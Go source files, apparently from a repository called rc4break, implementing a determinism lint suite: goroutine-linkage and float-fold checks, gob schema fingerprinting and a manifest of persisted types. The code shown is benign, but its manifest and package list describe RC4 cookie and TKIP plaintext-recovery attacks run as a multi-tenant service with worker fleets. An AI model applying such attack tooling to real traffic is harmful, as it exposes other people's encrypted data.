	mux.Handle("GET /debug/trace/chrome", ChromeHandler(j))
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
}
