package analysis

import (
	"go/ast"
	"go/types"
)

// GoroutineHygiene is the module-wide structured-concurrency pass. Every `go`
// statement must be visibly linked to its launcher — a context threaded into
// the body, a sync.WaitGroup the body signals, or a channel shared with the
// outside — so no goroutine can outlive the work it belongs to unobserved.
// Fan-out closures must also take loop variables as explicit parameters
// rather than capturing them: Go 1.22 made implicit capture safe, but an
// explicit parameter keeps the per-iteration binding visible and survives a
// future refactor that hoists the variable out of the loop.
//
// This pass also validates every //rc4lint:allow annotation in the package
// (unknown check names, missing justifications), since it is the one pass
// that runs over every package.
var GoroutineHygiene = &Analyzer{
	Name: "rc4goroutine",
	Doc: "require ctx/WaitGroup/channel linkage on every goroutine and " +
		"explicit parameters instead of loop-variable capture in fan-out closures",
	Run: runGoroutineHygiene,
}

func runGoroutineHygiene(pass *Pass) error {
	pass.CheckAnnotations()
	for _, f := range pass.Files {
		checkGoStmts(pass, f)
	}
	return nil
}

func checkGoStmts(pass *Pass, f *ast.File) {
	// Collect loop-variable objects per enclosing loop so the capture check
	// can test closure bodies against them.
	var loops []map[types.Object]bool
	var walk func(n ast.Node)

	loopVars := func(n ast.Node) map[types.Object]bool {
		vars := make(map[types.Object]bool)
		switch n := n.(type) {
		case *ast.ForStmt:
			if init, ok := n.Init.(*ast.AssignStmt); ok {
				for _, lhs := range init.Lhs {
					if id, ok := lhs.(*ast.Ident); ok && id.Name != "_" {
						if obj := objUse(pass.Info, id); obj != nil {
							vars[obj] = true
						}
					}
				}
			}
		case *ast.RangeStmt:
			for _, e := range []ast.Expr{n.Key, n.Value} {
				if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
					if obj := objUse(pass.Info, id); obj != nil {
						vars[obj] = true
					}
				}
			}
		}
		return vars
	}

	walk = func(n ast.Node) {
		ast.Inspect(n, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.ForStmt, *ast.RangeStmt:
				loops = append(loops, loopVars(n))
				var body *ast.BlockStmt
				if f, ok := n.(*ast.ForStmt); ok {
					body = f.Body
				} else {
					body = n.(*ast.RangeStmt).Body
				}
				walk(body)
				loops = loops[:len(loops)-1]
				return false
			case *ast.GoStmt:
				checkGoStmt(pass, n, loops)
				// Keep walking: nested `go` statements inside the body.
				return true
			}
			return true
		})
	}
	walk(f)
}

func checkGoStmt(pass *Pass, g *ast.GoStmt, loops []map[types.Object]bool) {
	lit, isLit := ast.Unparen(g.Call.Fun).(*ast.FuncLit)

	// Linkage: the goroutine must mention a context, signal a WaitGroup, or
	// share a channel with its launcher — in its body (closure form) or in
	// its call arguments (named-function form).
	linked := false
	for _, arg := range g.Call.Args {
		if isLinkType(pass.Info.TypeOf(arg)) {
			linked = true
		}
	}
	if isLit {
		if !linked {
			linked = bodyHasLinkage(pass, lit)
		}
	} else if !linked {
		// go x.m(...): a receiver that is (or holds) a linkage value counts —
		// e.g. `go w.run()` where w carries a ctx is still invisible to us,
		// so only the argument check applies; require an annotation there.
		if sel, ok := ast.Unparen(g.Call.Fun).(*ast.SelectorExpr); ok {
			if isLinkType(pass.Info.TypeOf(sel.X)) {
				linked = true
			}
		}
	}
	if !linked && !pass.Allowed("goroutine", g.Pos()) {
		pass.Reportf(g.Pos(),
			"goroutine has no ctx/WaitGroup/channel linkage to its launcher: thread a context or WaitGroup through it (or annotate with //rc4lint:allow goroutine <why>)")
	}

	// Loop-variable capture in fan-out closures.
	if !isLit || len(loops) == 0 {
		return
	}
	captured := map[types.Object]bool{}
	for _, l := range loops {
		for obj := range l {
			captured[obj] = true
		}
	}
	// Objects declared by the call's own arguments are evaluated at launch,
	// not captured — `go func(i int) {...}(i)` is the idiom we require.
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		obj := pass.Info.Uses[id]
		if obj == nil || !captured[obj] {
			return true
		}
		if pass.Allowed("loopcapture", id.Pos()) {
			return true
		}
		pass.Reportf(id.Pos(),
			"goroutine closure captures loop variable %s: pass it as an argument (go func(%s ...) {...}(%s)) so the per-iteration binding is explicit",
			id.Name, id.Name, id.Name)
		delete(captured, obj) // one report per variable per closure
		return true
	})
}

// isLinkType reports whether t is one of the linkage-carrying types: a
// context, a WaitGroup, or a channel.
func isLinkType(t types.Type) bool {
	if t == nil {
		return false
	}
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	if isNamedType(t, "context", "Context") || isNamedType(t, "sync", "WaitGroup") {
		return true
	}
	_, isChan := t.Underlying().(*types.Chan)
	return isChan
}

func isNamedType(t types.Type, pkgPath, name string) bool {
	n, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := n.Obj()
	return obj.Name() == name && obj.Pkg() != nil && obj.Pkg().Path() == pkgPath
}

// bodyHasLinkage scans a goroutine closure body for evidence it is joined to
// its launcher: a context mention, a WaitGroup method call, or any operation
// on a channel declared outside the closure.
func bodyHasLinkage(pass *Pass, lit *ast.FuncLit) bool {
	linked := false
	outerChan := func(e ast.Expr) bool {
		t := pass.Info.TypeOf(e)
		if t == nil {
			return false
		}
		if _, ok := t.Underlying().(*types.Chan); !ok {
			return false
		}
		id := baseIdent(e)
		if id == nil {
			// A channel reached through a field or call still links the
			// goroutine to shared state; accept it.
			return true
		}
		obj := objUse(pass.Info, id)
		return obj != nil && !declaredWithin(obj, lit.Pos(), lit.End())
	}
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		if linked {
			return false
		}
		switch n := n.(type) {
		case *ast.Ident:
			if isLinkType(pass.Info.TypeOf(n)) {
				// Context or WaitGroup mention (incl. wg.Done in a defer,
				// ctx.Done in a select) — or a channel-typed identifier;
				// channels additionally require the outer-declaration test.
				t := pass.Info.TypeOf(n)
				if _, isChan := t.Underlying().(*types.Chan); isChan {
					if outerChan(n) {
						linked = true
					}
				} else {
					linked = true
				}
			}
		case *ast.SendStmt:
			if outerChan(n.Chan) {
				linked = true
			}
		case *ast.UnaryExpr:
			if n.Op.String() == "<-" && outerChan(n.X) {
				linked = true
			}
		case *ast.RangeStmt:
			if outerChan(n.X) {
				linked = true
			}
		}
		return !linked
	})
	return linked
}
