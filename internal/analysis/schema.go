package analysis

import (
	"fmt"
	"go/types"
	"sort"
	"strings"
)

// SchemaOf renders a canonical fingerprint of the gob wire schema of t. Two
// types with equal fingerprints encode/decode compatibly for the purposes the
// repository cares about (persisted envelopes and fleet RPC messages); a
// fingerprint change on a manifest-registered type is schema drift and must
// be acknowledged by updating GobManifest.
//
// Rules mirror encoding/gob's:
//   - only exported struct fields participate, matched by name (field order
//     is irrelevant, so fields are listed sorted);
//   - pointers are flattened to their element type;
//   - a type implementing GobEncode or MarshalBinary is opaque — its schema
//     is whatever that method emits, so the fingerprint pins only the method
//     contract ("custom(pkg.Type)");
//   - chans and funcs cannot be encoded and render as "!chan"/"!func", which
//     can never match a manifest entry.
func SchemaOf(t types.Type) string {
	return schemaOf(t, nil)
}

func schemaOf(t types.Type, seen []*types.Named) string {
	switch t := t.(type) {
	case *types.Named:
		if hasCustomEncoder(t) {
			return "custom(" + namedName(t) + ")"
		}
		for _, s := range seen {
			if s.Obj() == t.Obj() {
				return "ref(" + namedName(t) + ")"
			}
		}
		return schemaOf(t.Underlying(), append(seen, t))
	case *types.Alias:
		return schemaOf(types.Unalias(t), seen)
	case *types.Pointer:
		return schemaOf(t.Elem(), seen)
	case *types.Basic:
		return t.Name()
	case *types.Slice:
		return "[]" + schemaOf(t.Elem(), seen)
	case *types.Array:
		return fmt.Sprintf("[%d]%s", t.Len(), schemaOf(t.Elem(), seen))
	case *types.Map:
		return "map[" + schemaOf(t.Key(), seen) + "]" + schemaOf(t.Elem(), seen)
	case *types.Struct:
		fields := make([]string, 0, t.NumFields())
		for i := 0; i < t.NumFields(); i++ {
			f := t.Field(i)
			if !f.Exported() {
				continue
			}
			fields = append(fields, f.Name()+" "+schemaOf(f.Type(), seen))
		}
		sort.Strings(fields)
		return "struct{" + strings.Join(fields, "; ") + "}"
	case *types.Interface:
		if t.Empty() {
			return "any"
		}
		return "interface"
	case *types.Chan:
		return "!chan"
	case *types.Signature:
		return "!func"
	default:
		return "!" + t.String()
	}
}

func namedName(t *types.Named) string {
	obj := t.Obj()
	if obj.Pkg() == nil {
		return obj.Name()
	}
	return obj.Pkg().Path() + "." + obj.Name()
}

// hasCustomEncoder reports whether t (or *t) provides its own gob wire format
// via GobEncode or MarshalBinary.
func hasCustomEncoder(t types.Type) bool {
	for _, name := range []string{"GobEncode", "MarshalBinary"} {
		if hasMethod(t, name) || hasMethod(types.NewPointer(t), name) {
			return true
		}
	}
	return false
}

func hasMethod(t types.Type, name string) bool {
	ms := types.NewMethodSet(t)
	for i := 0; i < ms.Len(); i++ {
		if ms.At(i).Obj().Name() == name {
			return true
		}
	}
	return false
}
