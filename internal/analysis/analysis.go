// Package analysis implements the repository's determinism lint suite: four
// static passes that turn the invariants the equivalence tests check
// dynamically — bitwise-identical evidence, ranks, and success records across
// backends, worker counts, fleet topologies, and kill/resume cycles — into
// properties the build refuses to compile away from.
//
// The passes are:
//
//   - rc4nondet: in the deterministic packages (see DeterministicPackages),
//     forbid wall-clock reads (time.Now/Since/Until) outside annotated timing
//     sites, global math/rand draws (only seeded *rand.Rand values threaded
//     from a lane or shard seed are allowed), and map iterations whose order
//     escapes into an accumulator, slice append, or encoder.
//
//   - rc4goroutine: module-wide goroutine hygiene — every `go` statement must
//     be linked to its launcher (context, WaitGroup, or a captured channel),
//     and fan-out closures may not capture loop variables implicitly.
//
//   - rc4gob: every concrete type handed to snapshot.WriteGob /
//     snapshot.WriteFileGob / snapshot.EncodeGob must be registered in
//     GobManifest with its current schema fingerprint, so gob schema drift of
//     persisted envelopes is a lint error, not a silent corruption.
//
//   - rc4floatfold: floating-point `+=` / `-=` accumulation into shared state
//     inside `go func` bodies is forbidden unless the merge site is
//     annotated order-pinned — the bug class the fleet's in-order merge gate
//     exists to prevent.
//
// The passes run over the whole module in CI through scripts/rc4lint, a
// `go vet -vettool`-compatible driver. A justified exception is written as
//
//	//rc4lint:allow <check> <justification>
//
// on the offending line or the line directly above it, where <check> is one
// of the names in AllowChecks and the justification is mandatory. The
// framework here is deliberately stdlib-only (go/ast + go/types); it mirrors
// the golang.org/x/tools/go/analysis API shape so the passes could migrate to
// it, but depends on nothing outside the standard library.
package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// Analyzer is one static pass: a name (used in diagnostics and annotation
// checks), a doc string, and a Run function.
type Analyzer struct {
	Name string
	Doc  string
	Run  func(*Pass) error
}

// Diagnostic is one finding, anchored to a position.
type Diagnostic struct {
	Pos      token.Pos
	Category string
	Message  string
}

// Pass carries one package's worth of parsed, type-checked input to an
// analyzer, plus the Report sink for findings.
type Pass struct {
	Analyzer *Analyzer
	Fset     *token.FileSet
	Files    []*ast.File
	Pkg      *types.Package
	// PkgPath is the import path as the build system reports it; test
	// variants ("pkg_test", "pkg [pkg.test]") are normalized by BasePath.
	PkgPath string
	Info    *types.Info
	Report  func(Diagnostic)

	allowOnce bool
	allow     map[string]map[int][]annotation // filename -> line -> annotations
}

// annotation is one parsed //rc4lint:allow comment.
type annotation struct {
	check   string
	reason  string
	pos     token.Pos
	covered [2]int // inclusive line range the annotation suppresses
}

// AllowChecks is the set of check names an //rc4lint:allow annotation may
// name, mapping each to the analyzer that owns it.
var AllowChecks = map[string]string{
	"timing":      "rc4nondet",
	"rand":        "rc4nondet",
	"maporder":    "rc4nondet",
	"goroutine":   "rc4goroutine",
	"loopcapture": "rc4goroutine",
	"gob":         "rc4gob",
	"floatfold":   "rc4floatfold",
}

// DeterministicPackages lists the packages whose outputs must be a pure
// function of their inputs: evidence, candidate ranks, and success records
// produced here are compared bitwise across backends, worker counts, fleet
// topologies, and kill/resume cycles. rc4nondet applies only to these.
var DeterministicPackages = map[string]bool{
	"rc4break/internal/rc4":          true,
	"rc4break/internal/dataset":      true,
	"rc4break/internal/recovery":     true,
	"rc4break/internal/tkip":         true,
	"rc4break/internal/cookieattack": true,
	"rc4break/internal/online":       true,
	"rc4break/internal/fleet":        true,
	"rc4break/internal/snapshot":     true,
	"rc4break/internal/trace":        true,
	"rc4break/internal/service":      true,
}

// Analyzers is the full suite in the order the driver runs them.
var Analyzers = []*Analyzer{
	NonDeterminism,
	GoroutineHygiene,
	SnapshotGob,
	FloatFold,
}

// BasePath normalizes a build-system package path to the plain import path:
// "pkg [pkg.test]" (internal test variant) and "pkg_test" (external test
// package) both map to "pkg".
func BasePath(path string) string {
	if i := strings.IndexByte(path, ' '); i >= 0 {
		path = path[:i]
	}
	path = strings.TrimSuffix(path, ".test")
	path = strings.TrimSuffix(path, "_test")
	return path
}

// IsDeterministic reports whether path (or its test variant) belongs to the
// deterministic package set.
func IsDeterministic(path string) bool {
	return DeterministicPackages[BasePath(path)]
}

const allowPrefix = "rc4lint:allow"

// buildAllow scans every comment in the pass's files once, recording which
// lines each //rc4lint:allow annotation covers: the annotation's own line
// range plus the line directly below it (so both trailing comments and
// own-line comments above the finding work).
func (p *Pass) buildAllow() {
	if p.allowOnce {
		return
	}
	p.allowOnce = true
	p.allow = make(map[string]map[int][]annotation)
	for _, f := range p.Files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				text := strings.TrimPrefix(c.Text, "//")
				text = strings.TrimPrefix(text, "/*")
				text = strings.TrimSuffix(text, "*/")
				text = strings.TrimSpace(text)
				if !strings.HasPrefix(text, allowPrefix) {
					continue
				}
				rest := strings.TrimSpace(strings.TrimPrefix(text, allowPrefix))
				check, reason, _ := strings.Cut(rest, " ")
				start := p.Fset.Position(c.Pos())
				end := p.Fset.Position(c.End())
				a := annotation{
					check:   check,
					reason:  strings.TrimSpace(reason),
					pos:     c.Pos(),
					covered: [2]int{start.Line, end.Line + 1},
				}
				byLine := p.allow[start.Filename]
				if byLine == nil {
					byLine = make(map[int][]annotation)
					p.allow[start.Filename] = byLine
				}
				for l := a.covered[0]; l <= a.covered[1]; l++ {
					byLine[l] = append(byLine[l], a)
				}
			}
		}
	}
}

// Allowed reports whether a finding of the named check at pos is suppressed
// by a well-formed //rc4lint:allow annotation. Malformed annotations (unknown
// check, missing justification) never suppress; CheckAnnotations flags them.
func (p *Pass) Allowed(check string, pos token.Pos) bool {
	p.buildAllow()
	position := p.Fset.Position(pos)
	for _, a := range p.allow[position.Filename][position.Line] {
		if a.check == check && a.reason != "" {
			return true
		}
	}
	return false
}

// CheckAnnotations reports malformed //rc4lint:allow annotations: unknown
// check names and missing justifications. GoroutineHygiene (the one
// module-wide pass that runs everywhere) calls it so a typo'd annotation is
// itself a finding instead of a silent no-op.
func (p *Pass) CheckAnnotations() {
	p.buildAllow()
	seen := make(map[token.Pos]bool)
	for _, byLine := range p.allow {
		for _, anns := range byLine {
			for _, a := range anns {
				if seen[a.pos] {
					continue
				}
				seen[a.pos] = true
				if _, ok := AllowChecks[a.check]; !ok {
					p.Report(Diagnostic{
						Pos:      a.pos,
						Category: p.Analyzer.Name,
						Message: fmt.Sprintf(
							"rc4lint:allow names unknown check %q (known: timing, rand, maporder, goroutine, loopcapture, gob, floatfold)", a.check),
					})
					continue
				}
				if a.reason == "" {
					p.Report(Diagnostic{
						Pos:      a.pos,
						Category: p.Analyzer.Name,
						Message:  fmt.Sprintf("rc4lint:allow %s needs a justification: //rc4lint:allow %s <why this site is exempt>", a.check, a.check),
					})
				}
			}
		}
	}
}

// Reportf is the printf-flavored Report.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	p.Report(Diagnostic{Pos: pos, Category: p.Analyzer.Name, Message: fmt.Sprintf(format, args...)})
}

// calleeFunc resolves a call expression to the *types.Func it invokes, or nil
// (builtins, conversions, calls of function-typed variables).
func calleeFunc(info *types.Info, call *ast.CallExpr) *types.Func {
	var id *ast.Ident
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		id = fun
	case *ast.SelectorExpr:
		id = fun.Sel
	default:
		return nil
	}
	fn, _ := info.Uses[id].(*types.Func)
	return fn
}

// funcFrom reports whether fn is the package-level function pkgPath.name.
func funcFrom(fn *types.Func, pkgPath string, names ...string) bool {
	if fn == nil || fn.Pkg() == nil || fn.Pkg().Path() != pkgPath {
		return false
	}
	for _, n := range names {
		if fn.Name() == n {
			return true
		}
	}
	return false
}

// objUse resolves an identifier to the object it uses or defines.
func objUse(info *types.Info, id *ast.Ident) types.Object {
	if o := info.Uses[id]; o != nil {
		return o
	}
	return info.Defs[id]
}

// baseIdent walks to the root identifier of an lvalue chain:
// x, x.f, x[i], (*x).f all root at x.
func baseIdent(e ast.Expr) *ast.Ident {
	for {
		switch v := ast.Unparen(e).(type) {
		case *ast.Ident:
			return v
		case *ast.SelectorExpr:
			e = v.X
		case *ast.IndexExpr:
			e = v.X
		case *ast.StarExpr:
			e = v.X
		default:
			return nil
		}
	}
}

// declaredWithin reports whether obj's declaration lies inside [lo, hi].
func declaredWithin(obj types.Object, lo, hi token.Pos) bool {
	return obj != nil && obj.Pos() != token.NoPos && obj.Pos() >= lo && obj.Pos() <= hi
}

// isFloat reports whether t's core type is a floating-point or complex kind —
// the kinds whose addition does not commute bitwise.
func isFloat(t types.Type) bool {
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&(types.IsFloat|types.IsComplex) != 0
}
