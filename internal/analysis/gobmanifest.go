package analysis

// GobManifest registers every concrete type the repository passes into a
// snapshot envelope (snapshot.WriteGob / WriteFileGob / EncodeGob), mapping
// its fully qualified name to the SchemaOf fingerprint of its gob wire
// schema. The rc4gob pass recomputes each payload's fingerprint on every run
// and fails the build when a call site uses an unregistered type or when a
// registered type's schema has drifted.
//
// Updating an entry is a statement that you have thought about the persisted
// artifacts: either the change is gob-compatible (added fields, reordered
// fields) and old snapshots still decode, or it is not and the envelope kind
// string must be versioned alongside it. The diagnostic prints the exact
// entry to paste here.
//
// Fingerprint semantics (see SchemaOf): exported fields only, sorted by
// name, pointers flattened, GobEncode/MarshalBinary types rendered opaque as
// custom(...). Field *order* changes therefore do not show up as drift —
// matching gob, which resolves fields by name.
var GobManifest = map[string]string{
	// Persisted attack evidence snapshots (the -checkpoint/-merge artifacts).
	"rc4break/internal/cookieattack.attackState": "struct{ABSAB [][]float64; Config struct{Charset []byte; CookieLen int; CounterBase int; MaxGap int; Offset int; Plaintext []byte}; FM [][]uint64; Fingerprint [16]byte; Records uint64; Stream struct{Lane uint64; Mode string; Seed int64}}",
	"rc4break/internal/tkip.modelState":          "struct{Counts []uint64; Keys uint64; Positions int; TSC1 byte}",
	"rc4break/internal/tkip.attackState":         "struct{Counts []uint64; Frames uint64; ModelFingerprint [16]byte; Positions []int; Stream struct{Lane uint64; Mode string; Seed int64}}",

	// Attack-service job manifests (the attackd store's jobs/<id> records).
	// Spec gained TraceID (span-context propagation from the submitter) —
	// gob-compatible: old manifests decode with an empty TraceID.
	"rc4break/internal/service.Manifest": "struct{Evidence string; ID string; Model string; Observed uint64; Result struct{Checks uint64; Error string; Plaintext []byte; Rank int; Skipped uint64; Success bool}; Rounds int; Spec struct{Attack string; Budget uint64; CaptureChunk uint64; CheckpointRounds int; DecodeEvery uint64; FirstDecode uint64; MaxCandidates int; Mode string; Secret string; Seed int64; TraceID string; TrainKeys uint64; Workers int}; State string; Tenant string}",

	// Fleet RPC messages (coordinator/worker wire protocol).
	"rc4break/internal/fleet.Hello":        "struct{Fingerprint [16]byte; Worker string}",
	"rc4break/internal/fleet.Welcome":      "struct{Job struct{Attack string; Budget uint64; Fingerprint [16]byte; LaneRecords uint64; Mode string; Seed int64}}",
	"rc4break/internal/fleet.LeaseRequest": "struct{Worker string}",
	// Lease gained Trace/Span (span-context propagation) and Evidence gained
	// Spans (worker journal piggyback) — both gob-compatible additions: old
	// peers decode new messages by skipping unknown fields, new peers see
	// zero values (tracing off) from old peers.
	"rc4break/internal/fleet.Lease":    "struct{Lane uint64; Records uint64; Span uint64; Start uint64; Stream struct{Lane uint64; Mode string; Seed int64}; TTL int64; Trace uint64}",
	"rc4break/internal/fleet.Wait":     "struct{After int64}",
	"rc4break/internal/fleet.Stop":     "struct{Reason string}",
	"rc4break/internal/fleet.Release":  "struct{Lane uint64; Worker string}",
	"rc4break/internal/fleet.Evidence": "struct{Lane uint64; Records uint64; Snapshot []byte; Spans []struct{Attrs []struct{Key string; Kind uint8; Num uint64; Str string}; Dur int64; Name string; Parent uint64; Proc string; Span uint64; Start int64; Trace uint64; Track int64}; Stream struct{Lane uint64; Mode string; Seed int64}; Worker string}",
	"rc4break/internal/fleet.Ack":      "struct{Err string; Lane uint64; Merged uint64; OK bool; Stop bool}",
}
