package analysis

import (
	"go/ast"
	"go/token"
)

// FloatFold is the module-wide float-accumulation-ordering pass. A `go func`
// body that folds floating-point values into state captured from outside the
// closure (`shared += x`, `acc[i] -= y`) produces sums whose bit pattern
// depends on goroutine scheduling — exactly the bug class the fleet's
// strict in-order lane merge exists to prevent. Workers must fold into
// locally declared accumulators and leave the cross-worker merge to a single
// ordered site; a site that is provably order-pinned (e.g. each goroutine
// owns a disjoint index range and performs its folds sequentially) is
// annotated //rc4lint:allow floatfold <why>.
var FloatFold = &Analyzer{
	Name: "rc4floatfold",
	Doc: "forbid floating-point compound accumulation into captured state " +
		"inside go-routine closures unless the merge site is annotated order-pinned",
	Run: runFloatFold,
}

func runFloatFold(pass *Pass) error {
	for _, f := range pass.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			g, ok := n.(*ast.GoStmt)
			if !ok {
				return true
			}
			lit, ok := ast.Unparen(g.Call.Fun).(*ast.FuncLit)
			if !ok {
				return true
			}
			checkFloatFolds(pass, lit)
			return true
		})
	}
	return nil
}

func checkFloatFolds(pass *Pass, lit *ast.FuncLit) {
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		a, ok := n.(*ast.AssignStmt)
		if !ok {
			return true
		}
		switch a.Tok {
		case token.ADD_ASSIGN, token.SUB_ASSIGN, token.MUL_ASSIGN, token.QUO_ASSIGN:
		default:
			return true
		}
		lhs := a.Lhs[0]
		t := pass.Info.TypeOf(lhs)
		if t == nil || !isFloat(t) {
			return true
		}
		base := baseIdent(lhs)
		if base == nil {
			return true
		}
		obj := objUse(pass.Info, base)
		if obj == nil || declaredWithin(obj, lit.Pos(), lit.End()) {
			// Folding into the closure's own locals (or parameters) is the
			// sanctioned pattern: local partials, ordered merge outside.
			return true
		}
		if pass.Allowed("floatfold", a.Pos()) {
			return true
		}
		pass.Reportf(a.Pos(),
			"floating-point accumulation into captured %s inside a goroutine: fold into a local partial and merge in deterministic order, or annotate the order-pinned site with //rc4lint:allow floatfold <why>",
			base.Name)
		return true
	})
}
