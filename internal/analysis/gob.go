package analysis

import (
	"go/ast"
	"go/types"
)

// SnapshotGob pins the gob schema of every value that flows into a snapshot
// envelope. Each call to snapshot.WriteGob, snapshot.WriteFileGob, or
// snapshot.EncodeGob must pass a payload whose concrete named type is
// registered in GobManifest with its current schema fingerprint (SchemaOf).
// An unregistered type, an interface-typed payload the pass cannot resolve,
// or a fingerprint that no longer matches the manifest is a finding — silent
// gob schema drift of persisted artifacts becomes a lint error instead of a
// corrupted resume three sessions later.
//
// Same-package forwarders are followed one level: a function that passes its
// own interface-typed parameter straight into a sink (fleet's writeMsg) is
// itself treated as a sink, and its call sites are checked instead.
var SnapshotGob = &Analyzer{
	Name: "rc4gob",
	Doc: "require every snapshot.WriteGob/EncodeGob payload type to be " +
		"registered (with its schema fingerprint) in the gob manifest",
	Run: runSnapshotGob,
}

const snapshotPkg = "rc4break/internal/snapshot"

// gobSinkParam maps the snapshot package's encoding entry points to the
// index of their payload parameter.
var gobSinkParam = map[string]int{
	"WriteGob":     2,
	"WriteFileGob": 2,
	"EncodeGob":    0,
}

func runSnapshotGob(pass *Pass) error {
	if BasePath(pass.PkgPath) == snapshotPkg {
		// The sink bodies themselves forward `v any` into encoding/gob by
		// design; their callers are where concrete types appear.
		return nil
	}

	// payloadIndex resolves fn to a sink: a snapshot entry point, or a
	// same-package function forwarding an interface-typed parameter into one.
	forwarders := findForwarders(pass)
	payloadIndex := func(fn *types.Func) (int, bool) {
		if fn == nil {
			return 0, false
		}
		if fn.Pkg() != nil && fn.Pkg().Path() == snapshotPkg {
			idx, ok := gobSinkParam[fn.Name()]
			return idx, ok
		}
		idx, ok := forwarders[fn]
		return idx, ok
	}

	for _, f := range pass.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			fn := calleeFunc(pass.Info, call)
			idx, ok := payloadIndex(fn)
			if !ok || idx >= len(call.Args) {
				return true
			}
			checkGobPayload(pass, call.Args[idx], forwarders)
			return true
		})
	}
	return nil
}

// findForwarders scans the package for functions whose interface-typed (or
// type-parameter-typed) parameter is passed as the payload of a gob sink —
// those functions become sinks themselves, with the payload checked at their
// call sites instead. The scan iterates to a fixed point so a helper that
// forwards through another local forwarder (a test harness wrapping fleet's
// writeMsg, say) is resolved transitively.
func findForwarders(pass *Pass) map[*types.Func]int {
	forwarders := make(map[*types.Func]int)
	sinkIndex := func(fn *types.Func) (int, bool) {
		if fn == nil {
			return 0, false
		}
		if fn.Pkg() != nil && fn.Pkg().Path() == snapshotPkg {
			idx, ok := gobSinkParam[fn.Name()]
			return idx, ok
		}
		idx, ok := forwarders[fn]
		return idx, ok
	}
	for changed := true; changed; {
		changed = false
		for _, f := range pass.Files {
			for _, decl := range f.Decls {
				fd, ok := decl.(*ast.FuncDecl)
				if !ok || fd.Body == nil {
					continue
				}
				fnObj, _ := pass.Info.Defs[fd.Name].(*types.Func)
				if fnObj == nil {
					continue
				}
				if _, done := forwarders[fnObj]; done {
					continue
				}
				sig := fnObj.Type().(*types.Signature)
				ast.Inspect(fd.Body, func(n ast.Node) bool {
					call, ok := n.(*ast.CallExpr)
					if !ok {
						return true
					}
					sinkIdx, ok := sinkIndex(calleeFunc(pass.Info, call))
					if !ok || sinkIdx >= len(call.Args) {
						return true
					}
					argID, ok := ast.Unparen(call.Args[sinkIdx]).(*ast.Ident)
					if !ok {
						return true
					}
					argObj := pass.Info.Uses[argID]
					for i := 0; i < sig.Params().Len(); i++ {
						p := sig.Params().At(i)
						if p == argObj {
							// *types.TypeParam's Underlying is its
							// constraint interface, so generic payload
							// parameters forward the same way `any` ones do.
							if _, isIface := p.Type().Underlying().(*types.Interface); isIface {
								forwarders[fnObj] = i
								changed = true
							}
						}
					}
					return true
				})
			}
		}
	}
	return forwarders
}

func checkGobPayload(pass *Pass, arg ast.Expr, forwarders map[*types.Func]int) {
	t := pass.Info.TypeOf(arg)
	if t == nil {
		return
	}
	if _, isIface := t.Underlying().(*types.Interface); isIface {
		// Forwarding a forwarder's own payload parameter onward is the one
		// legal interface-typed payload: the concrete type is checked at the
		// outer call site.
		if id, ok := ast.Unparen(arg).(*ast.Ident); ok {
			if v, ok := pass.Info.Uses[id].(*types.Var); ok {
				for fn, idx := range forwarders {
					sig := fn.Type().(*types.Signature)
					if idx < sig.Params().Len() && sig.Params().At(idx) == v {
						return
					}
				}
			}
		}
		if !pass.Allowed("gob", arg.Pos()) {
			pass.Reportf(arg.Pos(),
				"snapshot gob payload has interface type %s: pass a concrete named type so its schema can be pinned in the manifest (or annotate with //rc4lint:allow gob <why>)", t)
		}
		return
	}

	named := namedOf(t)
	if named == nil {
		if !pass.Allowed("gob", arg.Pos()) {
			pass.Reportf(arg.Pos(),
				"snapshot gob payload type %s is unnamed: declare a named type for persisted payloads so the manifest can pin its schema", t)
		}
		return
	}
	key := namedName(named)
	want, ok := GobManifest[key]
	if !ok {
		if !pass.Allowed("gob", arg.Pos()) {
			pass.Reportf(arg.Pos(),
				"snapshot gob payload type %s is not registered: add it to internal/analysis/gobmanifest.go as %q: %q",
				key, key, SchemaOf(named))
		}
		return
	}
	if got := SchemaOf(named); got != want {
		if !pass.Allowed("gob", arg.Pos()) {
			pass.Reportf(arg.Pos(),
				"gob schema drift for %s: manifest pins %q but the type now encodes as %q — if the change is intentional and persisted artifacts stay decodable, update gobmanifest.go",
				key, want, got)
		}
	}
}

// namedOf unwraps pointers and aliases to the named type of t, or nil.
func namedOf(t types.Type) *types.Named {
	for {
		switch v := t.(type) {
		case *types.Named:
			return v
		case *types.Alias:
			t = types.Unalias(v)
		case *types.Pointer:
			t = v.Elem()
		default:
			return nil
		}
	}
}
