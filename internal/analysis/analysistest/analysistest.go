// Package analysistest runs the internal/analysis passes over golden testdata
// packages and checks their diagnostics against `// want "regexp"` comments —
// a stdlib-only miniature of golang.org/x/tools/go/analysis/analysistest.
//
// A testdata source line states its expected findings inline:
//
//	t := time.Now() // want `forbidden in deterministic package`
//
// Each quoted string (Go-quoted or backquoted) is a regexp that must match
// exactly one diagnostic reported on that line; diagnostics with no matching
// want, and wants with no matching diagnostic, both fail the test. A line
// with no want comment asserts the analyzers stay silent there — negative
// cases (annotation escape hatches, sanctioned patterns) are plain unmarked
// code.
package analysistest

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"

	"rc4break/internal/analysis"
)

// Run type-checks the Go files in dir as a package imported as pkgPath (the
// path is what the passes see — use a path under rc4break/internal/... to
